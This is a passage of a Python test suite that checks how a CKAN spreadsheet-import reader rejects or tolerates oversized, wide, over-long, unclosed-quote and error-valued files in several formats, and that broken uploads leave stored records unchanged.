    limit = refused("The file has more than 2000000 cells. Split it into parts.")
    yield "two million filled cells", "x.xlsx", with_rows(data, filled), limit
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    limit = refused(
        "filled cells as far away as row 1048576, column 16384. Delete what stands outside"
    )
    yield "a cell at the far corner", "x.xlsx", with_rows(data, iter([far])), limit
    wide = b'<row r="900"><c r="AAA900"><v>1</v></c></row>'
    limit = refused('Sheet "Datasets" has 703 columns; at most 500 are read.')
    yield "a cell far to the right", "x.xlsx", with_rows(data, iter([wide])), limit
    rows = b"Name\r\n" + b"x\r\n" * 100_002
    limit = refused("The file has more than 100000 rows. Split it into parts.")
    yield "a hundred thousand rows", "x.csv", rows, limit
    sheet = {"name": "x", "columns": [{"header": "Name"}], "stamp": "", "rows": [["x"]] * 100_002}
    yield "the same in JSON", "x.json", json.dumps({"sheets": [sheet]}).encode(), limit
    limit = refused(
        "The file has more than 20 MB, which is the most that is read. Split it into parts"
    )
    for name, begin in (("csv", b"Name\r\n"), ("json", b'{"sheets": ['), ("xlsx", data)):
        yield f"20 MB of {name}", f"x.{name}", begin + b"x" * 20_000_000, limit

    # Ten million, without saying where each is: the program that wrote it leaves that out.
    blanks = blank_cells(20_000, 500, 900, say_where=False)
    yield "ten million blank cells", "x.xlsx", with_rows(data, blanks), intact
    lines = download(city, format="csv") + (b"," * 9 + b"\r\n") * 1_000_000

    def same(answer: Answer) -> None:
        assert answer.counts == {"read": 3, "unchanged": 3}
        assert [answer.found[name] for name in ("problems", "notes", "rows")] == [[], [], []]

    yield "ten million blank cells", "x.csv", lines, same


def test_formatted_rows_to_the_end_of_the_sheet_take_no_memory(city: City, tmp_path: Path) -> None:
    """Ten million cells with a format, down to row 1,048,576, read like the file without them.

    As large a file has to be allowed; otherwise one message says how large it may be.
    """
    data = download(city)
    blanks = with_rows(data, blank_cells(1_048_000, 10, 577, say_where=True))
    answer = bring(city, blanks, "x.xlsx")
    refused("The file has more than 20 MB, which is the most that is read.")(answer)
    refused("copy its rows into a new file: pictures and empty rows with a format")(answer)
    (tmp_path / "plain.xlsx").write_bytes(data)
    (tmp_path / "blanks.xlsx").write_bytes(blanks)
    script = """
import resource, sys
from pathlib import Path
from ckanext.inventory.spreadsheets.reader import Limits, read

folder = Path(sys.argv[1])
plain = read((folder / "plain.xlsx").read_bytes(), "x.xlsx").sheets
data = (folder / "blanks.xlsx").read_bytes()
size = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (size + 150_000_000,) * 2)
assert read(data, "x.xlsx", Limits(max_bytes=40_000_000)).sheets == plain
"""
    done = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path)], capture_output=True, check=False, text=True
    )
    assert done.returncode == 0, done.stderr[-2000:]


# Cells


def test_a_cell_that_is_too_long_is_told_from_an_unclosed_quotation_mark(city: City) -> None:
    long = b"x" * 140_000
    answer = bring(city, b"Name,Description\r\nTrees,one\r\nBenches," + long + b"\r\n", "x.csv")
    refused(
        "Row 3 holds a cell of more than 131,072 characters; at most 32,000 are taken. Shorten it."
    )(answer)
    answer = bring(city, b'Name,Description\r\n"Trees","' + long + b'"\r\n', "x.csv")
    refused("Row 2 holds a cell of more than 131,072 characters")(answer)
    answer = bring(city, b'Name,Description\r\nTrees,"one\r\n' + long + b"\r\n", "x.csv")
    refused("Row 2 can't be read: a quotation mark may be opened there and never closed.")(answer)


def test_a_cell_that_is_longer_than_a_field_is_told_by_its_column(city: City) -> None:
    data = b"Name,Description\r\nPonds," + b"x" * 40_000 + b"\r\n"
    (problem,) = bring(city, data, "x.csv").found["problems"]
    assert (problem["row"], problem["column"]) == (2, "Description")
    assert problem["message"] == "It is longer than 32000 characters and was shortened."


def test_cells_that_hold_an_error_value_are_told_in_every_format(city: City) -> None:
    words = "2 cells hold an error value such as #REF! or #N/A and were read as empty."
    book = openpyxl.Workbook()
    for line in (["Name", "Description"], ["Ponds", "#N/A"], ["Wells", "#REF!"]):
        book.active.append(line)
    assert bring(city, saved(book), "x.xlsx").found["notes"] == [words]
    for data in (
        ods([["Ponds", "#N/A"], ["Wells", "#REF!"]]),
        xls(
            [
                label(0, 0, "Name"),
                label(0, 1, "Description"),
                label(1, 0, "Ponds"),
                error(1, 1),
                label(2, 0, "Wells"),
                error_of_formula(2, 1),
            ]
        ),
    ):
        answer = bring(city, data, "x")
        assert answer.found["notes"] == [words]
        assert [row["title"] for row in answer.found["rows"]] == ["Ponds", "Wells"]


def ods(lines: Sequence[Sequence[str]]) -> bytes:
    """A list as LibreOffice saves it, with what begins like an error value as one."""

    def cell(written: str) -> str:
        kind = 'calcext:value-type="string"'
        if written.startswith("#"):
            kind = 'table:formula="of:=NA()" office:string-value="" calcext:value-type="error"'
        return (
            f'<table:table-cell office:value-type="string" {kind}><text:p>{written}</text:p>'
            "</table:table-cell>"
        )

    rows = "".join(
        f"<table:table-row>{''.join(map(cell, line))}</table:table-row>"
        for line in [["Name", "Description"], *lines]
    )
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "table", "text")
    )
    calcext = 'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
    return zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": b"<manifest/>",
            "content.xml": (
                f"<office:document-content {spaces} {calcext}><office:body><office:spreadsheet>"
                f'<table:table table:name="List">{rows}</table:table>'
                "</office:spreadsheet></office:body></office:document-content>"
            ).encode(),
        }
    )


KINDS = [
    cut,
    cut_texts,
    scrambled,
    scrambled_texts,
    of_other_kinds,
    without_rows,
    locked,
    bombs,
    old_excel,
    odd_packages,
    damaged_parts,
    hostile_cells,
    hostile_stamps,
    hostile_tokens,
    hostile_texts,
    twice,
    other_departments,
    old_templates,
    formulas,
]
SEEN: dict[str, set[str]] = {}


def everything() -> str:
    """All that is stored of records."""
    model.Session.rollback()
    tables = (Record.__table__, Revision.__table__)
    rows = [model.Session.execute(sa.select(table)).all() for table in tables]
    return hashlib.sha256(repr([sorted(map(repr, found)) for found in rows]).encode()).hexdigest()


@pytest.mark.parametrize("kind", KINDS)
def test_broken_files(city: City, kind: Any) -> None:
    model.Session.commit()
    before = everything()
    for name, filename, data, check in kind(city):
        try:
            check(bring(city, data, filename))
        except Exception as error:
            raise AssertionError(name) from error
        SEEN.setdefault(kind.__name__, set()).add(hashlib.sha256(data).hexdigest())
    assert everything() == before


def test_there_were_at_least_two_hundred(city: City) -> None:
    for kind in KINDS:
        if kind.__name__ not in SEEN:
            SEEN[kind.__name__] = {hashlib.sha256(data).hexdigest() for _, _, data, _ in kind(city)}
    assert len(set().union(*SEEN.values())) >= 200
